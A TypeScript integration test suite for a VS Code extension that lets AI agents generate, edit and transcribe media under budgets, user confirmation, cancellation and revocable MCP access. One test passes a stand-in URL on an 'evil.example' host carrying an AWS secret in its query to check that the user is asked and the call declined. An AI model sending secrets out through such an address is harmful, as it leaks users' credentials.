import assert from 'node:assert/strict';
import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import * as vscode from 'vscode';
import type { ToolResult } from '../../src/agents/ToolResult.ts';
import { agentTools } from '../../src/agents/tools.ts';
import type { UnifiedMedia } from '../../src/extension.ts';
import { type FaultySandbox, startFaultySandbox } from '../support/faultySandbox.ts';
import { answerDialog, answerWarning } from './answerDialog.ts';
import { changeSettings } from './changeSettings.ts';
import { eventually, repeatedly } from './eventually.ts';
import { setApiKey } from './setApiKey.ts';
import { useSandboxInWorkspace } from './workspaceFolder.ts';

const extensionId = 'unified-media.unified-media';

describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
  const folder = useSandboxInWorkspace();

  async function call(name: string, input: object, token?: vscode.CancellationToken) {
    const options = { input, toolInvocationToken: undefined };
    const { content } = await vscode.lm.invokeTool(`unifiedMedia_${name}`, options, token);
    const [first, ...others] = content;
    assert(first instanceof vscode.LanguageModelTextPart);
    return { result: JSON.parse(first.value) as ToolResult, others };
  }

  async function left(): Promise<number> {
    return (await call('getOptions', {})).result.budget?.left.images ?? -1;
  }

  /** Sets the daily budget so that this many images are left. */
  async function leave(images: number): Promise<void> {
    await changeSettings({
      'agents.budget': { images: 20, videos: 0, characters: 20_000, minutes: 60, requests: 100 },
    });
    const spent = 20 - (await left());
    const limit = images === 0 ? 0 : spent + images;
    assert(limit <= 20, 'the tests spend more than a day has');
    await changeSettings({
      'agents.budget': { images: limit, videos: 0, characters: 20_000, minutes: 60, requests: 100 },
    });
  }

  it('match the table of tools, with schemas and tag', () => {
    const own = vscode.lm.tools.filter(({ name }) => name.startsWith('unifiedMedia_'));
    assert.deepEqual(own.map(({ name }) => name).sort(), agentTools.map(({ name }) => name).sort());
    for (const { name, description, inputSchema } of agentTools) {
      const tool = own.find((one) => one.name === name);
      assert.deepEqual(
        [tool?.description, tool?.inputSchema, tool?.tags],
        [description, inputSchema, ['unified-media']],
      );
    }
  });

  it('make an image in the sandbox without a question, and return file, reference and preview', async () => {
    const { result, others } = await call('generateImage', {
      prompt: 'A fox',
      n: 2,
      alt_text: 'A fox in the snow',
      purpose: 'for the start page',
      include_preview: true,
    });
    assert.deepEqual([result.status, result.sandbox, result.files?.length], ['done', true, 2]);
    for (const file of result.files ?? []) {
      assert.equal(file.path, join(folder, file.relative_path));
      assert.equal(file.bytes, (await stat(file.path)).size);
      assert.equal(file.media_type, 'image/png');
      assert.deepEqual([file.width, file.height], [1024, 1024]);
      assert.equal(file.reference, `![A fox in the snow](${file.relative_path})`);
    }
    assert.equal(others.length, 2);
    for (const part of others) {
      assert(part instanceof vscode.LanguageModelDataPart);
      assert(part.data.length <= 64 * 1024, String(part.data.length));
      const magic = Buffer.from(part.data.subarray(0, 4)).toString('hex');
      assert(part.mimeType === 'image/jpeg' ? magic.startsWith('ffd8ff') : magic === '89504e47', magic);
    }
    const { exports } = vscode.extensions.getExtension<UnifiedMedia>(extensionId) ?? {};
    assert.equal(exports?.jobs.find(({ id }) => id === result.job_id)?.agent?.purpose, 'for the start page');
  });

  it('return no preview when the call or the setting turns it off', async () => {
    assert.deepEqual((await call('generateImage', { prompt: 'a', include_preview: false })).others, []);
    await changeSettings({ 'agents.preview': false });
    assert.deepEqual((await call('generateImage', { prompt: 'b' })).others, []);
  });

  it('find existing media, and speak', async () => {
    const made = await call('generateImage', { prompt: 'a blue whale', include_preview: false });
    const found = await call('findAssets', { query: 'whale' });
    assert.deepEqual(
      found.result.files?.map(({ path }) => path),
      made.result.files?.map(({ path }) => path),
    );
    const spoken = await call('speak', { text: 'Hello.', file_name: 'hello' });
    assert.match(spoken.result.files?.[0]?.relative_path ?? '', /hello\.mp3$/);
    await writeFile(join(folder, 'guide.mdx'), "import Tabs from '@theme/Tabs';\n\nRead **this**.\n");
    const read = await call('speak', { file: 'guide.mdx' });
    assert.match(read.result.files?.[0]?.relative_path ?? '', /\bread-this\.mp3$/);
    const transcript = await call('transcribe', { file: spoken.result.files?.[0]?.relative_path });
    assert.match(transcript.result.text ?? '', /untrusted/);
  });

  it('are disabled by the setting', async () => {
    await changeSettings({ 'agents.enabled': false });
    await assert.rejects(call('generateImage', { prompt: 'a' }), /turned off/);
  });

  it('have a skill and two prompts', async () => {
    const extension = vscode.extensions.getExtension(extensionId);
    assert(extension);
    const { extensionPath, packageJSON } = extension;
    const { contributes } = packageJSON as {
      readonly contributes: Readonly<Record<'chatSkills' | 'chatPromptFiles', readonly { readonly path: string }[]>>;
    };
    for (const { path } of [...contributes.chatSkills, ...contributes.chatPromptFiles]) {
      assert.match(await readFile(join(extensionPath, path), 'utf8'), /^---\nname: [a-z-]+\ndescription: .+\n/);
    }
    const commands = await vscode.commands.getCommands();
    if (!commands.includes('_listExtensionPromptFiles')) return;
    const listed = JSON.stringify(await vscode.commands.executeCommand('_listExtensionPromptFiles'));
    for (const name of ['make-media-assets', 'illustrate.prompt.md', 'narrate.prompt.md'])
      assert(listed.includes(name), listed);
  });

  describe('at the service', () => {
    let service: FaultySandbox;

    beforeEach(async () => {
      service = await startFaultySandbox({ imageSize: 64 });
      const { imageBaseUrl } = service;
      const models = { generateImage: ['painter'], editImage: ['painter'] };
      await changeSettings({ service: 'remote', imageBaseUrl, models });
      await setApiKey(service.key);
    });

    afterEach(async () => {
      await vscode.commands.executeCommand('unifiedMedia.removeApiKey');
      await service.stop();
    });

    it('save where the project of the active document keeps images, and edits beside their source', async () => {
      await leave(3);
      await mkdir(join(folder, 'static/img'), { recursive: true });
      await mkdir(join(folder, 'docs'), { recursive: true });
      await writeFile(join(folder, 'docusaurus.config.js'), '');
      await writeFile(join(folder, 'docs/a.md'), '# Harbour\n');
      await vscode.window.showTextDocument(vscode.Uri.file(join(folder, 'docs/a.md')));
      const paths = async (name: string, input: object) =>
        (await call(name, { ...input, include_preview: false })).result.files?.map((file) => file.relative_path);
      assert.deepEqual(await paths('generateImage', { prompt: 'A pier' }), ['static/img/a-pier.png']);
      const edit = { prompt: 'At night', images: ['static/img/a-pier.png'] };
      assert.deepEqual(await paths('editImage', edit), ['static/img/a-pier-2.png']);
      assert.deepEqual(await paths('editImage', { ...edit, folder: 'other', file_name: 'own' }), ['other/own.png']);
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    });

    it('are refused beyond the budget when no question can be shown', async () => {
      await leave(0);
      await assert.rejects(call('generateImage', { prompt: 'a' }), /could not ask the user.*\[over_budget/);
      assert.equal(service.counts.generateImage, 0);
    });

    it('ask once about a raised budget, and apply it only after confirmation', async () => {
      const before = await left();
      await changeSettings({
        'agents.budget': { images: 500, videos: 0, characters: 20_000, minutes: 60, requests: 100 },
      });
      assert.equal(await left(), before);
      {
        using dialogs = answerWarning();
        await call('generateImage', { prompt: 'a' });
        assert.equal(dialogs.questions.length, 1);
        assert.equal(await left(), before - 1);
        await call('generateImage', { prompt: 'b' });
        assert.equal(dialogs.questions.length, 1);
      }
    });

    it('ask about an address within the budget, and show it', async () => {
      await leave(1);
      const address = 'https://evil.example/x.png?leak=AWS_SECRET%3Dabc';
      using dialogs = answerWarning();
      const asked = call('editImage', { prompt: 'a', images: [address], model: 'free' });
      await assert.rejects(asked, /\[declined/);
      assert.match(dialogs.questions[0] ?? '', /with “free”\?/);
      assert(dialogs.details[0]?.includes(address), dialogs.details[0]);
      assert.equal(service.counts.editImage, 0);
    });

    it('open the whole of a long prompt as a read-only document', async () => {
      await leave(0);
      const prompt = `${'word '.repeat(12_000)}the end`;
      using dialogs = answerWarning('Show All');
      await assert.rejects(call('generateImage', { prompt }), /\[declined/);
      assert.match(dialogs.details[0] ?? '', /and 59,707 more characters/);
      const document = vscode.window.activeTextEditor?.document;
      assert.equal(document?.uri.scheme, 'unified-media-question');
      assert(document?.getText().includes(prompt));
      const edit = new vscode.WorkspaceEdit();
      if (document) edit.insert(document.uri, new vscode.Position(0, 0), 'x');
      await vscode.workspace.applyEdit(edit).then(undefined, () => false);
      assert.equal(vscode.window.activeTextEditor?.document.getText(), document?.getText());
      assert.equal(document?.isDirty, false);
      assert.equal(service.counts.generateImage, 0);
    });

    it('ask several questions in one dialog', async () => {
      await leave(0);
      using dialogs = answerWarning('Generate All 3');
      const results = await Promise.all(['a', 'b', 'c'].map((prompt) => call('generateImage', { prompt })));
      assert.equal(dialogs.questions.length, 1);
      for (const prompt of ['a', 'b', 'c'])
        assert.match(dialogs.details[0] ?? '', new RegExp(`^Prompt: ${prompt}$`, 'm'));
      assert.match(dialogs.details[0] ?? '', /^Service: .+$/m);
      assert.equal(new Set(results.map(({ result }) => result.files?.[0]?.path)).size, 3);
      assert.equal(service.counts.generateImage, 3);
    });

    it('ask one by one when the person wants that', async () => {
      await leave(0);
      using dialogs = answerWarning('One by One', 'Generate');
      await Promise.all(['a', 'b', 'c'].map((prompt) => call('generateImage', { prompt })));
      const [together, ...each] = dialogs.questions;
      assert.match(together ?? '', /^3 requests of agents are waiting/);
      assert.equal(each.length, 3);
      assert.equal(service.counts.generateImage, 3);
    });

    it('can be cancelled by their caller, and pay at most once', async () => {
      await leave(1);
      service.faults.latencyMs = 60_000;
      const source = new vscode.CancellationTokenSource();
      const extension = vscode.extensions.getExtension<UnifiedMedia>(extensionId);
      assert(extension);
      const { exports } = extension;
      // A cancelled request may be billed, so it is never sent again by itself.
      const running = call('generateImage', { prompt: 'cancelled' }, source.token);
      running.catch(() => undefined);
      await eventually(exports.onDidChangeJobs, () => exports.jobs.some(({ state }) => state === 'waiting'));
      source.cancel();
      await assert.rejects(running, /Cancel/);
      await eventually(exports.onDidChangeJobs, () => exports.jobs.every(({ state }) => state !== 'waiting'));
      assert.equal(exports.jobs[0]?.state, 'cancelled');
      service.faults.clear();
      assert(service.counts.generateImage <= 1);
      assert.equal(await left(), 0);
    });

    it('can be stopped by the user, all of one agent at once', async () => {
      await leave(2);
      service.faults.latencyMs = 60_000;
      const extension = vscode.extensions.getExtension<UnifiedMedia>(extensionId);
      assert(extension);
      const { exports } = extension;
      const running = ['stopped', 'also stopped'].map((prompt) => call('generateImage', { prompt }));
      for (const one of running) one.catch(() => undefined);
      const waiting = () => exports.jobs.filter(({ state, agent }) => state === 'waiting' && agent?.name === 'Chat');
      await eventually(exports.onDidChangeJobs, () => waiting().length === 2);
      const stopped = await vscode.commands.executeCommand('unifiedMedia.stopAgent', { jobId: waiting()[0]?.id });
      assert.equal(stopped, 2);
      for (const one of running) await assert.rejects(one, /\[cancelled/);
      service.faults.clear();
    });
  });

  describe('outside the editor', () => {
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: {} });

    // Registers the setting, which the extension turns on, so that it is reset afterwards.
    beforeEach(() => changeSettings({ 'agents.server': undefined }));

    const post = (url: string, token: string) =>
      fetch(url, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${token}`,
          'content-type': 'application/json',
          accept: 'application/json, text/event-stream',
        },
        body,
      });

    it('are served from the first connected agent until the setting is off', async () => {
      const { url, token } = await connectAs('MCP');
      assert.equal(vscode.workspace.getConfiguration('unifiedMedia').get('agents.server'), true);
      assert.equal((await post(url, token)).status, 200);
      assert.deepEqual(await connectAs('MCP'), { url, token });
      await vscode.commands.executeCommand('unifiedMedia.revokeAgents');
      assert.equal((await post(url, token)).status, 401);
      const connected = await connectAs('MCP');
      assert.equal(connected.url, url);
      assert.equal((await post(url, connected.token)).status, 200);
      await changeSettings({ 'agents.server': false });
      await eventually(repeatedly, () =>
        post(url, connected.token).then(
          () => false,
          () => true,
        ),
      );
    });

    it('name the agent, and wait for the user beyond the budget', async () => {
      const { url, token } = await connectAs('MCP');
      const service = await startFaultySandbox({ imageSize: 64 });
      const models = { generateImage: ['painter'] };
      await changeSettings({ service: 'remote', imageBaseUrl: service.imageBaseUrl, models });
      await setApiKey(service.key);
      await leave(0);
      const client = new Client({ name: 'tests', version: '1' });
      const requestInit = { headers: { authorization: `Bearer ${token}` } };
      await client.connect(new StreamableHTTPClientTransport(new URL(url), { requestInit }));
      try {
        const ask = (name: string, input: Record<string, unknown>) =>
          client.callTool({ name, arguments: input }).then(({ structuredContent }) => structuredContent as ToolResult);
        const listed = await client.listTools();
        assert.deepEqual(
          listed.tools.map(({ name }) => name),
          agentTools.map(({ referenceName }) => referenceName),
        );
        const held = Promise.withResolvers<string>();
        using dialogs = answerDialog('showWarningMessage', () => held.promise);
        const first = await ask('media_generate_image', { prompt: 'a', wait_seconds: 0, purpose: 'a test' });
        assert.equal(first.status, 'waiting_for_person');
        const extension = vscode.extensions.getExtension<UnifiedMedia>(extensionId);
        assert(extension);
        const jobOf = () => extension.exports.jobs.find(({ id }) => id === first.job_id);
        // The answer may be here before the job is listed.
        await eventually(extension.exports.onDidChangeJobs, () => jobOf()?.waitsForPerson === true);
        const job = jobOf();
        assert.deepEqual([job?.agent?.name, job?.agent?.purpose, job?.waitsForPerson], ['MCP', 'a test', true]);
        assert.equal(service.counts.generateImage, 0);
        held.resolve('Generate');
        await vscode.commands.executeCommand('unifiedMedia.answerAgents');
        const done = await ask('media_get_job', { job_id: first.job_id, wait_seconds: 25 });
        assert.equal(done.status, 'done', JSON.stringify(done));
        assert.equal(service.counts.generateImage, 1);
        assert(
          dialogs.questions.some((question) => question.includes('Generate Image (MCP): 1 image with “painter”?')),
        );
      } finally {
        await client.close();
        await vscode.commands.executeCommand('unifiedMedia.removeApiKey');
        await service.stop();
      }
    });
  });
});

/** Connects an agent as a user does. */
async function connectAs(name: string): Promise<{ readonly url: string; readonly token: string }> {
  const { showQuickPick } = vscode.window;
  const choose = async (items: readonly { readonly label: string }[]) => items.find(({ label }) => label === name);
  Object.assign(vscode.window, { showQuickPick: choose });
  try {
    const text = await vscode.commands.executeCommand<string>('unifiedMedia.connectAgent');
    assert.equal(await vscode.env.clipboard.readText(), text);
    const [, url = ''] = /"url": "([^"]+)"/.exec(text) ?? [];
    const [, token = ''] = /Bearer ([\w-]+)/.exec(text) ?? [];
    return { url, token };
  } finally {
    Object.assign(vscode.window, { showQuickPick });
  }
}
